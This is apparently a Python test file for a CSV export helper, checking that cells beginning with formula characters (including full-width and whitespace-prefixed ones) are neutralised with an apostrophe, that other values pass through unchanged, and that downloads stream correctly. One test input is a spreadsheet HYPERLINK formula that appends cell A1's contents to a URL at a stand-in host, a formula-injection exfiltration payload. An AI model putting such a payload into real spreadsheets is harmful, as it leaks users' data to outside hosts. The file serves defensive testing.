"""A cell that somebody else wrote is text in a spreadsheet, never a formula."""

import csv
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from common.spreadsheet import csv_lines, download


def cells(*row):
    header, line = csv.reader(csv_lines(["first", "second"], [row]))
    assert header == ["first", "second"]
    return line


@pytest.mark.parametrize("sign", "=+-@＝＋－＠")
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\t", "\r", "\n"])
def test_no_text_is_taken_for_a_formula(before, sign):
    text = f'{before}{sign}HYPERLINK("http://elsewhere/?"&A1)'
    assert cells("harmless", text) == ["harmless", f"'{text}"]


@pytest.mark.parametrize("text", ["a=b", "1-2", "", " ", "it's", 'say "hi", please', "a\n=b", " a"])
def test_any_other_text_stays_as_it_is(text):
    assert cells("x", text) == ["x", text]


def test_numbers_and_moments_are_written_as_they_are():
    assert cells(-5, Decimal("-0.10")) == ["-5", "-0.10"]
    assert cells(datetime(2026, 1, 2, tzinfo=UTC), None) == ["2026-01-02T00:00:00+00:00", ""]


def test_a_download_is_streamed_under_a_name_with_the_day():
    response = download("uses", csv_lines(["id"], [[1], [2]]))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="uses-20')
    assert b"".join(response.streaming_content) == b"id\r\n1\r\n2\r\n"
